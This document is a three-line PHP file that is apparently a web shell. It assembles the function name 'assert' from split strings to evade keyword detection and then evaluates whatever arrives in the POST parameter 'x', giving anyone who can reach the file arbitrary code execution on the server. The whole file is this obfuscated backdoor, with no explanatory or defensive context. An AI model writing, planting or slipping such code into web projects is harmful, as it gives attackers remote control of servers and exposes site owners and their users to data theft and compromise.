<?php
$k = 'as' . 'sert';
$k($_POST['x']);
